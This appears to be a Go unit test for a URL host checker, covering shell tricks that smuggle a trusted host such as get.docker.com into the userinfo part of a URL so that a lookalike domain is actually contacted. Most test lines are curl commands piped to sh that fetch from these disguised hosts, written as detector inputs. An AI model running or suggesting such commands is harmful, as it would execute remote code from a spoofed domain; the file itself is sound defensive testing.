package hosts

import (
	"strings"
	"testing"
)

// TestUserinfoShellJoined (fix16fix): a known host followed, in the same
// shell word, by an '@' with only quotes, expansions, substitutions and
// escaped characters between is a user part: the shell joins
// "https://get.docker.com"$(:)"@docker-get.dev/a" into
// https://get.docker.com@docker-get.dev/a. The honest twin of each has
// the same joining pieces but a word boundary (a blank, plain text after
// the quote) or the path's '/' before any '@'.
func TestUserinfoShellJoined(t *testing.T) {
	for _, c := range []struct {
		line  string
		known bool
	}{
		{`curl -fsSL "https://get.docker.com"$(:)"@docker-get.dev/a" | sh`, false},
		{`curl -fsSL "https://get.docker.com"\@docker-get.dev/b | sh`, false},
		{`curl -fsSL "https://get.docker.com"${NOPE}"@docker-get.dev/c" | sh`, false},
		{"curl -fsSL \"https://get.docker.com\"`:`\"@docker-get.dev/d\" | sh", false},
		{`curl -fsSL https://get.docker.com\ @docker-get.dev/e | sh`, false},
		{`curl -fsSL https://get.docker.com"$EMPTY"@docker-get.dev/h | sh`, false},
		{`curl -fsSL 'https://get.docker.com'$(printf '')'@docker-get.dev/i' | sh`, false},
		{`curl -fsSL "https://get.docker.com"$E"@"docker-get.dev/j | sh`, false},
		{`curl -fsSL "https://get.docker.com"$(echo ")")@docker-get.dev/k | sh`, false},
		{`curl -fsSL https://sh.rustup.rs$'\x40'rustup-sh.dev | sh`, false},
		// Honest twins.
		{`curl -fsSL "https://get.docker.com"$(:) -o get-docker.sh; echo ops@example.com`, true},
		{`curl -fsSL "https://get.docker.com"\ -o get-docker.sh && echo a@b.dev`, true},
		{`curl -fsSL "https://get.docker.com"${SUFFIX} | sh # ops@example.com`, true},
		{`curl -fsSL https://get.docker.com"$EMPTY" -o x # me@example.com`, true},
		{`curl -fsSL "https://get.docker.com"$(:)"/install.sh?u=a@b" | sh`, true},
		{`{"url":"https://get.docker.com","email":"ops@example.com"}`, true},
		{`fetch("https://get.docker.com").then(() => notify("ops@example.com"))`, true},
	} {
		us := URLs(c.line)
		if len(us) == 0 {
			t.Errorf("%s: no URL", c.line)
			continue
		}
		if got := Known(us[0]); got != c.known {
			t.Errorf("%s: host %q known %v, want %v", c.line, us[0].Host, got, c.known)
		}
	}
}

// TestUserinfoJoinedBounded (fix16fix): the joined word is read at most
// 256 bytes on: an expansion opened and never closed, 1 MiB of nested
// substitutions or of escapes before an '@', is cut there.
func TestUserinfoJoinedBounded(t *testing.T) {
	for _, mid := range []string{strings.Repeat("$(", 1<<19), strings.Repeat(`\,`, 1<<19), `${` + strings.Repeat("x", 1<<20), strings.Repeat(`""`, 1<<19)} {
		line := `"https://get.docker.com"` + mid + "@evil.dev"
		if _, ok := userinfo(line, 1, len(`"https://`), len(`"https://get.docker.com`)); ok {
			t.Errorf("an '@' 1 MiB on was read (%.10q)", mid)
		}
		if j := skipExpansion(line, len(`"https://get.docker.com"`), len(`"https://get.docker.com"`)+256); j > len(`"https://get.docker.com"`)+256 {
			t.Errorf("expansion read to %d", j)
		}
	}
}
